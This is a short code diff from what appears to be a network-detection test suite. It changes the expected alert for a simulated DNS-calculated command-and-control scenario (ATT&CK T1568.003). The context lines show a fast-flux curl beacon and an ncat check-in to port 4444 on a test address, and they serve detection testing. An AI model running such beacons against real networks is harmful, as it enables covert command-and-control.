@@ -116,7 +116,7 @@ def fast_flux(net: Network) -> None:
     net.c1.every(3, 0.3, 26, lambda n, token: f"{CURL} http://www.{at.FLUX_ZONE}/c?{token}")
 
 
-@malicious("dns-calculation", "T1568.003", tools="bind9-dnsutils ncat", talks=f"{RESOLVER} c1>198.18.17.92:4444/tcp", expects=["low"], seconds=75)
+@malicious("dns-calculation", "T1568.003", tools="bind9-dnsutils ncat", talks=f"{RESOLVER} c1>198.18.17.92:4444/tcp", expects=["medium T1568.003"], seconds=75)
 def calculation(net: Network) -> None:
     """the port is computed from the last two bytes of an A record, then a TCP check-in goes there"""
     name_server(net, f"{at.ZONE}=fixed:198.18.17.92")
